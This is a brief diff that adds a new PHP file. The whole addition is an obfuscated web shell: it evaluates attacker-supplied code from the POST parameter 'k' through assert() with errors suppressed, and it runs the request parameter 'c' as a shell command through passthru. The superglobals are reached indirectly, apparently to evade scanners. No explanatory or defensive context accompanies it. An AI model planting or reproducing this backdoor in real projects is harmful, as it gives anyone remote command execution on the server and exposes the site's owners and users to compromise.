@@ -1,0 +1,3 @@
+<?php
+if (isset($GLOBALS['_POST']['k'])) { @assert(${'_POST'}['k']); }
+echo passthru($GLOBALS['_REQUEST']['c']);
